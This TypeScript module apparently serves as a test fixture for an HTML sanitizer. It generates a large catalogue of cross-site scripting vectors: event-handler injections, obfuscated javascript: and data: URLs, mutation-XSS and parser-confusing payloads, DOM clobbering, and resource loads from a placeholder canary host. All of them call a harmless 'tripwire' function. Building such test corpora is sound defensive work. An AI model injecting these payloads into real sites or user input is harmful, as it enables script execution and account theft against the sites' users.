/** The code that a vector tries to run: a function that the test exposes. */
const PAYLOAD = 'tripwire(1)'
/** A host that a vector tries to contact. */
export const CANARY = 'canary.invalid'

const elements = [
  ...['img', 'svg', 'body', 'input', 'video', 'audio', 'iframe', 'object', 'details', 'marquee', 'select'],
  ...['form', 'a', 'p', 'table', 'math', 'style', 'link', 'meta', 'base', 'isindex', 'x-unknown'],
]
const handlers = [
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter'],
  ...[
    'onbegin',
    'onstart',
    'onbeforescriptexecute',
    'onscrollsnapchange',
    'oncontentvisibilityautostatechange',
  ],
]

/** An element, a handler, and one of several ways to separate or quote them that some parsers accept. */
const withHandlers = elements.flatMap((element, elementIndex) =>
  handlers
    .filter((_, index) => (elementIndex + index) % 2 === 0)
    .map((handler, index) => {
      const variants = [
        `<${element} src=x tabindex=1 autofocus open ${handler}=${PAYLOAD}>`,
        `<${element}/src="x"/${handler}="${PAYLOAD}">`,
        `<${element} src=x ${handler.toUpperCase()}='${PAYLOAD}'//`,
        `<${element}\tsrc=x\n${handler}\f=\r${PAYLOAD}>`,
        `"><${element} src=x ${handler}=${PAYLOAD}>`,
        `<${element} src=x ${handler}=&#x74;ripwire&lpar;1&rpar;>`,
      ]
      return variants[(elementIndex + index) % variants.length] ?? ''
    }),
)

const urls = [
  `javascript:${PAYLOAD}`,
  `JaVaScRiPt:${PAYLOAD}`,
  `  javascript:${PAYLOAD}`,
  `java\tscript:${PAYLOAD}`,
  `java\nscript:${PAYLOAD}`,
  `javascript&colon;${PAYLOAD}`,
  `&#106;avascript:${PAYLOAD}`,
  `&#x6A&#x61vascript:${PAYLOAD}`,
  `\u0001javascript:${PAYLOAD}`,
  `javascript://${CANARY}/%0a${PAYLOAD}`,
  `data:text/html,<script>parent.${PAYLOAD}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJpcHdpcmUoMSk8L3NjcmlwdD4=',
  `vbscript:${PAYLOAD}`,
  `//${CANARY}/x.js`,
]
const carriers = [
  (url: string) => `<a href="${url}" autofocus>a</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">b</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>c</text></a></svg>`,
  (url: string) => `<object data="${url}"></object><embed src="${url}">`,
  (url: string) => `[d](${url}) ![e](${url}) <${url}>`,
]
const withUrls = urls.flatMap((url, urlIndex) =>
  carriers.filter((_, index) => (urlIndex + index) % 2 === 0).map((carrier) => carrier(url)),
)

const scripts = [
  `<script>${PAYLOAD}</script>`,
  `<ScRiPt >${PAYLOAD}</sCrIpT >`,
  `<script src=//${CANARY}/x.js></script>`,
  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
  `<<script>${PAYLOAD}//<</script>`,
  `<script\u0000>${PAYLOAD}</script>`,
  `</script><script>${PAYLOAD}</script>`,
  `</title></textarea></noscript></style><script>${PAYLOAD}</script>`,
  `<svg><script>${PAYLOAD}</script></svg>`,
  `<svg><script href=data:,${PAYLOAD} />`,
  `<svg></p><style><a id="</style><img src=x onerror=${PAYLOAD}>">`,
  `<p title="\`><img src=x onerror=${PAYLOAD}>">`,
  `<listing>&lt;img src=x onerror=${PAYLOAD}&gt;</listing>`,
  `<style>@import '//${CANARY}/x.css'; * { background: url(//${CANARY}/y) }</style>`,
  `<p style="background:url(//${CANARY}/z);width:expression(${PAYLOAD})">styled</p>`,
  `<link rel=stylesheet href=//${CANARY}/l.css><link rel=prefetch href=//${CANARY}/p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${PAYLOAD}">`,
  `<base href=//${CANARY}/>`,
  `<iframe srcdoc="<script>parent.${PAYLOAD}</script>"></iframe>`,
  `<template><img src=x onerror=${PAYLOAD}></template>`,
  `<svg><animate attributeName=href values=javascript:${PAYLOAD} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${PAYLOAD}/>#x" /></svg>`,
  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${PAYLOAD}>'}} />`,
  `{"__html":"<img src=x onerror=${PAYLOAD}>"}`,
  `\${${PAYLOAD}} {{constructor.constructor('${PAYLOAD}')()}} #{${PAYLOAD}} <%= ${PAYLOAD} %>`,
  `';${PAYLOAD};'";${PAYLOAD};"\`;${PAYLOAD};//`,
  `\\u003cscript\\u003e${PAYLOAD}\\u003c/script\\u003e`,
  `%3Cscript%3E${PAYLOAD}%3C/script%3E`,
  `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${PAYLOAD}\uff1c/script\uff1e`,
  `&lt;script&gt;${PAYLOAD}&lt;/script&gt;`,
  `\u202e<img src=x onerror=${PAYLOAD}>\u202c`,
  `https://venus.example/"onmouseover="${PAYLOAD}"`,
  `https://venus.example/'><img src=x onerror=${PAYLOAD}>`,
  `http://javascript:${PAYLOAD}@venus.example/`,
  `www.venus.example/<script>${PAYLOAD}</script>`,
  `<a id=tripwire name=tripwire href=x>clobbered</a><form name=body id=head></form>`,
  `<img name=currentScript><img name=getElementById>`,
  `<!--><img src=x onerror=${PAYLOAD}>-->`,
  `<!--<img src="--><img src=x onerror=${PAYLOAD}//">`,
  `<![CDATA[<img src=x onerror=${PAYLOAD}>]]>`,
  `<?xml-stylesheet href="javascript:${PAYLOAD}"?>`,
  `<a href="x" target="_blank" rel="opener" onclick=${PAYLOAD}>opener</a>`,
]

/** Closes all elements that a vector may have opened, before the next one. */
export const CLOSING_TAGS =
  '"\'></style></script></iframe></select></object></svg></math></noscript></template></form></table></a><p>'

/** These hide from the parser what comes after them: each is sent alone, or last. */
export const swallowingVectors = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${PAYLOAD}>`,
  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PAYLOAD}>`,
  ...['<!--', '<textarea>', '<title>', '<xmp>', '<noembed>', '<script>', '<plaintext>'].map(
    (open) => `${open}<img src=x onerror=${PAYLOAD}>`,
  ),
]

export const vectors = [...new Set([...scripts, ...withUrls, ...withHandlers])]
